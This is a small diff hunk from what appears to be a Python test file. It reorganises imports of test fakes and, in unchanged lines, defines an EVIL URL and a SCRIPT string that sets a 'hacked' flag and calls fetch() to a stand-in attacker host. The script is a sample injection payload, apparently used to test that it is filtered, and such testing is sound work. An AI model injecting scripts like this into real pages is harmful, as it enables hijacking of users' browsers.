@@ -10,7 +10,8 @@ import gzip
 import zipfile
 from io import BytesIO
 
-from tests.review.review_fakes import TABLES, page_of
+from tests.checker.checker_fakes import page_of
+from tests.review.review_fakes import TABLES
 
 EVIL = "https://evil.example/x"
 SCRIPT = "window.top.hacked=1;fetch('https://evil.example/x')"
